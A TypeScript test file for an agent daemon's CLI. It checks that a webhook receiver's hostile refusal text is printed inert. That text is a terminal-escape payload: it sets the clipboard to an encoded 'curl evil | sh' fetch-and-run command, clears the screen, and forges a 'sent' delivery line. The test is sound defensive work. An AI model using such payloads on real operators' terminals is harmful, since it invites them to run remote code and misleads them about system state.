import { type IncomingMessage, type ServerResponse, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { describe, expect, it } from "vitest";
import { startRun, waitForRunEnd } from "../daemon/api-shapes.js";
import { agentd } from "../support/agentd-cli.js";
import { textReply } from "../support/scripted-llm-server.js";
import { useTestKit } from "../support/test-kit.js";
import { waitFor } from "../support/wait-for.js";

const kit = useTestKit();

/**
 * A receiver's refusal written for an operator's terminal: set the clipboard (OSC 52), clear the
 * screen, and forge a line of the list that says the delivery was sent.
 */
const HOSTILE_REFUSAL =
  "busy \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\r\nd_forged  2026-12-01T00:00:00Z  digest  r_x  chat (slack, always)  sent";

describe("a receiver's refusal shown by agentd deliveries", () => {
  it("is printed inert: no terminal sequence, no line of its own", { timeout: 120_000 }, async () => {
    const server = createServer((request: IncomingMessage, response: ServerResponse) => {
      request.resume().on("end", () => response.writeHead(503).end(HOSTILE_REFUSAL));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    kit.defer(() => new Promise((resolve) => server.close(() => resolve(undefined))));
    const { project } = await kit.scriptedProject(textReply("the digest"));
    project.writeAgent("digest", {
      deliver: [{ to: "slack", url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook` }],
    });
    const daemon = await kit.daemon(project.configFile);
    await waitForRunEnd(daemon, await startRun(daemon, "digest", "write the digest"));
    await waitFor(async () => {
      const listed = (await daemon.request("GET", "/deliveries")).body as {
        deliveries: Array<{ status: string }>;
      };
      return listed.deliveries[0]?.status === "retrying";
    }, "the refused attempt");
    const environment = { AGENTD_URL: daemon.url, AGENTD_TOKEN: daemon.token ?? "" };
    for (const args of [["deliveries"], ["deliveries", "--targets"]]) {
      const printed = await agentd([...args, "--config", project.configFile], { environment });
      expect(printed.exitCode, printed.stderr).toBe(0);
      expect(printed.stdout).toContain("busy \\u001b]52;c;");
      // eslint-disable-next-line no-control-regex -- the characters a terminal acts on
      expect(printed.stdout).not.toMatch(/[\u0007\u001b\r]/);
      expect(printed.stdout.trimEnd().split("\n")).toHaveLength(1);
    }
  });
});
